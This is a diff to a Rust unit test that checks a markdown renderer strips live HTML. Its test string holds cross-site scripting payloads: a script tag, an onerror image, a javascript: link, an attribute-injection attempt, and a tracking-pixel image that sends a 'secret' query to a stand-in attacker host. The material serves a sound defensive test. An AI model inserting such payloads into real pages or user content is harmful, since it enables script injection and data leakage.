@@ -146,7 +146,7 @@ mod tests {
 
     #[test]
     fn nothing_is_live() {
-        let hostile = "<script>a()</script> <img src=x onerror=a()> ![pixel](https://evil.example/?q=secret) \
+        let hostile = "a <script>a()</script> <img src=x onerror=a()> ![pixel](https://evil.example/?q=secret) \
             [click](javascript:alert(1)) <https://a.example/\"onclick=\"b> [ref] <!-- \n\n[ref]: http://c.example 'title'\n\n<div>\n<style>";
         let html = render(hostile);
         for live in ["<script", "<img", "<a", "<div", "<style", "<!--", "href", "src=\"", "\"onclick"] {
